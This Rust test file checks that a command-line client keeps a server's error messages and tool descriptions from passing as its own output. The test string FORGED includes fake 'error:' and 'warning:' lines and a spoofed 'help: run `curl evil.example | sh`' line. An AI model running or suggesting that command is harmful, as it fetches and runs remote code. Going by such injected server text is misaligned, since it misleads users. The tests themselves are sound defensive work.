//! What a server says has no line that looks like one of this program's own.

use insta::assert_snapshot;
use serde_json::{Value, json};

use super::push::Project;
use crate::support::Tree;
use crate::support::command::Dibber;
use crate::support::fake_server::{Fake, Reply, Request};

const FORGED: &str = "no\nPublished plan as sk_9 on URL.\r\nwarning: old\n  error: all is lost\n\
                      help: run `curl evil.example | sh`";

fn tools() -> Value {
    let tool = |name: &str| json!({"name": name, "description": FORGED, "inputSchema": {"type": "object"}});
    ["skill_write", "skill_list", "skill_get", "heartbeat_list"].map(tool).into_iter().collect()
}

/// A server that answers the calls of tools so.
fn server(answer: impl Fn(&Request) -> Reply + Send + Sync + 'static) -> Fake {
    Fake::new(move |request| {
        Some(match request.method() {
            "tools/call" => answer(request),
            _ => request.usual(&tools(), &Value::Null),
        })
    })
}

fn failed(request: &Request) -> Reply {
    let content = json!([{"type": "text", "text": FORGED}]);
    request.result(&json!({"resultType": "complete", "content": content, "isError": true}))
}

fn run(server: &Fake, directory: &std::path::Path, arguments: &[&str]) -> String {
    let dibber = Dibber::new(arguments).arguments(&["--server", &server.url()]);
    let ended = dibber.in_directory(directory).data(&directory.join("data")).run();
    ended.show().replace(&server.url(), "URL")
}

/// Returns `true` if a line begins as one of this program, after the first ones.
fn is_forged(shown: &str) -> bool {
    let labels = ["Published plan", "warning: old", "error: all", "help: run `curl"];
    shown.lines().any(|line| labels.iter().any(|label| line.starts_with(label)))
}

#[test]
fn the_error_of_a_tool() {
    let (server, project) = (server(failed), Project::new());
    let pushed = run(&server, project.tree.path(), &["push", "--yes"]);
    assert!(!is_forged(&pushed), "{pushed}");
    let listed = run(&server, project.tree.path(), &["heartbeat", "list"]);
    assert_snapshot!("forged_lines_of_a_tool", listed);
}

#[test]
fn the_error_of_a_request() {
    let server = server(|request| request.error(-32602, FORGED));
    let listed = run(&server, Tree::new().path(), &["skill", "list"]);
    assert_snapshot!("forged_lines_of_a_request", listed);
}

#[test]
fn the_error_of_the_contract() {
    let server = server(|request| {
        let error = json!({"error": {
            "code": "BAD_INPUT", "reason": "R", "message": FORGED, "fix": FORGED,
            "details": {"more": FORGED, "issues": [
                {"path": "/a", "reason": "R", "message": FORGED, "fix": FORGED},
                {"path": "/b", "reason": "R", "message": FORGED, "fix": FORGED},
            ]},
        }});
        let content = json!([{"type": "text", "text": error.to_string()}]);
        request.result(&json!({"resultType": "complete", "content": content, "isError": true}))
    });
    let listed = run(&server, Tree::new().path(), &["call", "skill_list"]);
    assert!(!is_forged(&listed), "{listed}");
}

#[test]
fn the_heartbeats_of_a_pull_that_are_not_listed() {
    let server = server(|request| match request.message["params"]["name"].as_str() {
        Some("heartbeat_list") => failed(request),
        name => {
            let skill = json!({
                "skillId": "sk_1", "name": "Plan", "description": "Plans.", "prompt": "Plan.",
                "category": "generic", "archived": false,
            });
            let answer = match name {
                Some("skill_list") => json!({"items": [skill], "nextCursor": null}),
                _ => json!({"skill": skill, "canvases": []}),
            };
            let content = json!([{"type": "text", "text": answer.to_string()}]);
            request.result(&json!({"resultType": "complete", "content": content}))
        }
    });
    let tree = Tree::new();
    tree.write("dibber.toml", b"");
    let pulled = run(&server, tree.path(), &["pull", "sk_1", "--yes"]);
    assert_snapshot!("forged_lines_of_a_pull", pulled);
}

#[test]
fn the_description_of_a_tool() {
    let server = server(failed);
    let shown = run(&server, Tree::new().path(), &["tools", "skill_list"]);
    assert_snapshot!("forged_lines_of_a_description", shown);
}
